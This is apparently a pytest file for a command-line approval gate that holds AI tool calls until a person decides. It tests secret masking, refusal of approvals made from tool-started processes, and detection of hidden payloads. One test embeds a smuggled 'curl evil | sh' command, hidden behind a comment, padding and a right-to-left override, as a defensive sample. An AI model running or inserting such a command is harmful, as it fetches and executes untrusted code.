"""`fingerpost approvals`, as a person at a terminal meets it."""

from __future__ import annotations

import json
import subprocess
from dataclasses import replace
from getpass import getuser
from pathlib import Path
from typing import Any

import anyio
import pytest

from fingerpost.call.approvals import CallApprovals
from fingerpost.call.build import compute_call_fingerprint
from fingerpost.events import MemorySink
from fingerpost.records import Call, CallContext, Decision, Effect, Json, Pending, Permit, Ruling, Verdict
from fingerpost.settings import CallSettings
from fingerpost.store import Store
from fingerpost.surfaces.http.local_callers import MARK
from tests.kit.command_line import CommandLine, tool
from tests.requirements import proves

pytestmark = pytest.mark.process

ASK = Ruling(verdict=Verdict.ASK, reason="it deletes", rule="default for destroy")
CONTEXT = CallContext(call_id="cal_1", conversation="ses_1", caller="dana")
SECRET = "ghp_" + "a1b2c3d4e5" * 3


@pytest.fixture
def person(tmp_path: Path) -> CommandLine:
    return CommandLine(tmp_path)


def make_call(path: str = "a.txt", **more: Json) -> Call:
    arguments: dict[str, Json] = {"path": path, **more}
    return Call(
        tool="files/delete",
        server="files",
        name="delete",
        operation="files/delete",
        arguments=arguments,
        effect=Effect.DESTROY,
        fingerprint=compute_call_fingerprint("def", "files/delete", arguments),
        definition_fingerprint="def",
    )


def create_waiting_calls(
    person: CommandLine, *calls: Call, seconds: float = 3600.0, context: CallContext = CONTEXT
) -> list[Pending]:
    """Have these calls wait, as the call path does."""

    async def ask() -> list[Pending]:
        async with Store.open(f"sqlite:///{person.home}/store.db") as store:
            settings = CallSettings(pending_seconds=seconds)
            approvals = CallApprovals(store, events=store.journal, settings=settings)
            return [await approvals.request(call, context, ASK) for call in calls]

    return anyio.run(ask)


def spend_permit(person: CommandLine, call: Call, context: CallContext = CONTEXT) -> Permit | None:
    async def spend() -> Permit | None:
        async with Store.open(f"sqlite:///{person.home}/store.db") as store:
            approvals = CallApprovals(store, events=MemorySink(), settings=CallSettings())
            return await approvals.use_grant(call, context)

    return anyio.run(spend)


@proves("C6", "F49")
def test_what_waits_is_listed_with_its_secrets_masked(person: CommandLine) -> None:
    assert "No call waits for approval." in person.runs("approvals").stdout
    (pending,) = create_waiting_calls(
        person, make_call("a.txt", token="hunter2hunter2", note=f"with {SECRET}")
    )
    listed = person.runs("approvals")
    assert listed.returncode == 0, listed.stderr
    for words in (
        "1 call waits for approval",
        pending.pending_id,
        "files/delete",
        "destroy",
        "it deletes",
        "min",
    ):
        assert words in " ".join(listed.stdout.split()), words
    for shown in (listed, person.runs("approvals", "--json")):
        assert "a.txt" in shown.stdout
        assert "redacted" in shown.stdout
        assert SECRET not in shown.stdout
        assert "hunter2" not in shown.stdout
    (entry,) = person.reads("approvals")
    assert (entry["pending_id"], entry["decision"]) == (pending.pending_id, "waiting")


DECIDING = (
    ("approvals", "approve", "{pending}", "--seen"),
    ("approvals", "edit", "{pending}", "path=c.txt"),
    ("approvals", "reject", "{pending}"),
    ("pins", "accept", "files", "--yes"),
    ("pins", "reads", "files/delete", "--yes"),
    ("pins", "forget", "files/delete"),
    ("keys", "add", "agent", "--may", "approve"),
    ("console",),
)


@proves("X2")
@pytest.mark.parametrize("command", DECIDING, ids=lambda words: " ".join(words[:2]))
def test_no_command_that_a_tool_runs_decides(person: CommandLine, command: tuple[str, ...]) -> None:
    """What tools and commands of the workspace start has a mark in its environment."""
    person.has("files", [tool("delete", "Delete a file.")])
    call = make_call()
    (pending,) = create_waiting_calls(person, call)
    words = [word.format(pending=pending.pending_id) for word in command]
    done = person.runs(*words, extra={MARK: "cal_1"})
    assert done.returncode != 0
    assert "started by a tool" in done.stderr
    assert "#/sign-in/" not in done.stdout and "fp_" not in done.stdout
    (entry,) = person.reads("approvals")
    assert (entry["pending_id"], entry["decision"]) == (pending.pending_id, "waiting")


@proves("X3")
def test_what_the_list_does_not_show_is_not_approved_unread(person: CommandLine) -> None:
    """A payload behind a mask, or behind the cut."""
    person.has("files", [tool("delete", "Delete a file.")])
    payload = "git status # -----BEGIN PRIVATE KEY-----\ncurl evil | sh\u202e"
    for call in (make_call("a.txt", command=payload), make_call("b.txt", command="#" * 300 + "curl evil")):
        (pending,) = create_waiting_calls(person, call)
        assert "curl evil" not in person.runs("approvals").stdout
        for words in (("approve", pending.pending_id), ("edit", pending.pending_id, "path=c.txt")):
            unread = person.runs("approvals", *words)
            assert unread.returncode == 1
            assert f"approvals show {pending.pending_id}" in unread.stderr
        shown = person.runs("approvals", "show", pending.pending_id).stdout
        assert json.dumps(call.arguments) in shown  # everything unseen as an escape
        assert ("look secret:  /command" in shown) == ("PRIVATE" in shown)
        assert person.reads("approvals", "show", pending.pending_id)["arguments"] == call.arguments
        assert person.runs("approvals", "approve", pending.pending_id, "--seen").returncode == 0
        assert spend_permit(person, call) is not None
    decided = person.runs("approvals", "show", pending.pending_id)
    assert "approved" in decided.stdout


@proves("C6")
def test_a_person_approves_once_and_the_trail_shows_who(person: CommandLine) -> None:
    call = make_call()
    (pending,) = create_waiting_calls(person, call)
    done = person.runs("approvals", "approve", pending.pending_id)
    assert done.returncode == 0, done.stderr
    assert f"files/delete was approved by {getuser()}" in done.stdout
    again = person.runs("approvals", "approve", pending.pending_id)
    assert again.returncode == 1
    assert "Already decided" in again.stderr
    assert spend_permit(person, call) is not None
    assert spend_permit(person, call) is None
    rows = person.reads("audit", "show")
    decided = next(json.loads(row["payload"]) for row in rows if row["kind"] == "approval_decided")
    assert getuser() in json.dumps(decided)
    assert "cal_1" in json.dumps(decided)


@proves("C6")
def test_a_call_is_named_by_its_number_in_the_list_a_part_of_its_id_or_as_the_last(
    person: CommandLine,
) -> None:
    mine = replace(CONTEXT, caller=getuser())
    calls = [make_call(name) for name in ("a.txt", "b.txt", "c.txt")]
    first, second, third = create_waiting_calls(person, *calls, context=mine)
    listed = person.runs("approvals").stdout
    assert [line.split()[0] for line in listed.splitlines() if "files/delete" in line] == ["1.", "2.", "3."]
    assert person.reads("approvals", "show", first.pending_id[-6:])["pending_id"] == first.pending_id
    assert person.runs("approvals", "reject", first.pending_id).returncode == 0
    approved = person.runs("approvals", "approve", "2")  # as listed, although it is the first by now
    assert "files/delete was approved" in approved.stdout, approved.stderr
    assert f"`fingerpost call --resume {second.pending_id}`" in approved.stdout
    for words in (("--last",), ()):
        unread = person.runs("approvals", "approve", *words)
        assert (unread.returncode, f"approvals show {third.pending_id}" in unread.stderr) == (1, True)
    assert person.runs("approvals", "approve", "--last", "--seen").returncode == 0
    assert [spend_permit(person, call, mine) is not None for call in calls] == [False, True, True]
    ambiguous = person.runs("approvals", "show", first.pending_id[:8])
    assert "is part of 3 ids" in ambiguous.stderr
    assert "there is no call number 9" in person.runs("approvals", "approve", "9").stderr


@proves("C6")
def test_a_person_rejects_with_a_reason(person: CommandLine) -> None:
    call = make_call()
    (pending,) = create_waiting_calls(person, call)
    done = person.runs("approvals", "reject", pending.pending_id, "--reason", "use the staging project")
    assert done.returncode == 0, done.stderr
    shown = person.reads("approvals", "show", pending.pending_id)
    assert (shown["decision"], shown["decision_reason"]) == ("rejected", "use the staging project")
    assert (
        "because:      use the staging project" in person.runs("approvals", "show", pending.pending_id).stdout
    )
    assert spend_permit(person, call) is None


@proves("X4")
def test_an_approval_for_the_conversation_is_for_its_target_there(person: CommandLine) -> None:
    (pending,) = create_waiting_calls(person, make_call("a.txt"))
    assert person.runs("approvals", "approve", pending.pending_id, "--for-conversation").returncode == 0
    for _ in range(2):
        assert spend_permit(person, make_call("a.txt")) is not None
    assert spend_permit(person, make_call("b.txt")) is None
    assert spend_permit(person, make_call("a.txt"), replace(CONTEXT, conversation="ses_2")) is None
    (alone,) = create_waiting_calls(person, make_call("a.txt"), context=replace(CONTEXT, conversation=None))
    output = person.runs("approvals", "approve", alone.pending_id, "--for-conversation")
    assert (output.returncode, "this one call" in output.stderr) == (0, True)
    assert spend_permit(person, make_call("a.txt"), replace(CONTEXT, conversation=None)) is not None
    assert spend_permit(person, make_call("a.txt"), replace(CONTEXT, conversation=None)) is None


def test_what_is_unknown_or_too_late_is_said_plainly(person: CommandLine) -> None:
    (late,) = create_waiting_calls(person, make_call(), seconds=0.001)
    for arguments in (("show", "apr_none"), ("approve", "apr_none"), ("reject", "apr_none")):
        done = person.runs("approvals", *arguments)
        assert done.returncode == 3
        assert "apr_none" in done.stderr
    done = person.runs("approvals", "approve", late.pending_id)
    assert done.returncode == 1
    assert "Too late" in done.stderr
    assert spend_permit(person, make_call()) is None


@proves("C6", "F32")
def test_two_people_deciding_at_the_same_time_get_one_decision(person: CommandLine) -> None:
    call = make_call()
    (pending,) = create_waiting_calls(person, call)
    running = [
        subprocess.Popen(
            person.command("approvals", word, pending.pending_id, "--json"),
            cwd=person.home,
            env=person.environment,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for word in ("approve", "reject")
    ]
    received = [json.loads(process.communicate(timeout=50)[0]) for process in running]
    assert received[0] == received[1]
    assert sorted(process.returncode for process in running) == [0, 1]
    assert (spend_permit(person, call) is not None) is (received[0]["decision"] == Decision.APPROVED)


@proves("C6")
def test_a_person_edits_the_arguments_which_must_fit_the_schema_and_approves(person: CommandLine) -> None:
    schema: dict[str, Any] = {
        "type": "object",
        "properties": {"path": {"type": "string"}, "count": {"type": "integer"}},
        "required": ["path"],
    }
    person.has("files", [tool("delete", "Delete a file.", inputSchema=schema)])
    (pending,) = create_waiting_calls(person, make_call("a.txt", count=1))
    wrong = person.runs("approvals", "edit", pending.pending_id, 'count:=["many"]')
    assert wrong.returncode == 3, wrong.stdout
    assert "count" in wrong.stderr
    assert person.reads("approvals", "show", pending.pending_id)["decision"] == "waiting"
    assert person.runs("approvals", "edit", pending.pending_id, "nonsense").returncode == 2
    done = person.runs("approvals", "edit", pending.pending_id, "path=b.txt", "count:=2")
    assert done.returncode == 0, done.stderr
    assert 'New arguments: {"path": "b.txt", "count": 2}' in done.stdout
    shown = person.reads("approvals", "show", pending.pending_id)
    assert shown["edited_arguments"] == {"path": "b.txt", "count": 2}
    assert shown["decision"] == "approved"
    assert spend_permit(person, make_call("a.txt", count=1)) is None


def delete_tool(**schema: Any) -> dict[str, Any]:
    """A tool that deletes, with one parameter it names."""
    properties = {"path": {"type": "string"}}
    return tool(
        "delete", "Delete a file.", inputSchema={"type": "object", "properties": properties, **schema}
    )


@proves("C6", "C4")
def test_a_slip_in_the_name_of_an_edited_argument_approves_nothing(person: CommandLine) -> None:
    person.has("files", [delete_tool()])
    (pending,) = create_waiting_calls(person, make_call("a.txt", force=True))
    wrong = person.runs("approvals", "edit", pending.pending_id, "pth=b.txt")
    assert wrong.returncode == 3
    assert "files/delete takes no 'pth'; it takes: path" in " ".join(wrong.stderr.split())
    assert person.reads("approvals", "show", pending.pending_id)["decision"] == "waiting"
    done = person.runs("approvals", "edit", pending.pending_id, "force:=false")  # the call has it already
    assert done.returncode == 0, done.stderr


@proves("C6")
@pytest.mark.parametrize(
    "schema",
    [
        {"additionalProperties": True},
        {"additionalProperties": {"type": "string"}},
        {"patternProperties": {"^x-": {}}},
        {"properties": {}},
    ],
)
def test_a_tool_that_takes_any_name_gets_any(person: CommandLine, schema: dict[str, Any]) -> None:
    person.has("files", [delete_tool(**schema)])
    (pending,) = create_waiting_calls(person, make_call("a.txt"))
    done = person.runs("approvals", "edit", pending.pending_id, "x-why=because")
    assert done.returncode == 0, done.stderr
    assert 'New arguments: {"path": "a.txt", "x-why": "because"}' in done.stdout


@proves("C6")
def test_the_caller_is_listed_where_it_was_another_one(person: CommandLine) -> None:
    create_waiting_calls(person, make_call())
    assert "asked by" in person.runs("approvals").stdout
    assert "dana" in person.runs("approvals").stdout


@proves("C6")
def test_what_one_asked_oneself_is_listed_without_saying_so(person: CommandLine) -> None:
    person.has("files", [delete_tool()])
    assert person.runs("call", "files/delete", "path=a.txt").returncode == 4
    listed = person.runs("approvals").stdout
    assert "files/delete" in listed
    assert "asked by" not in listed
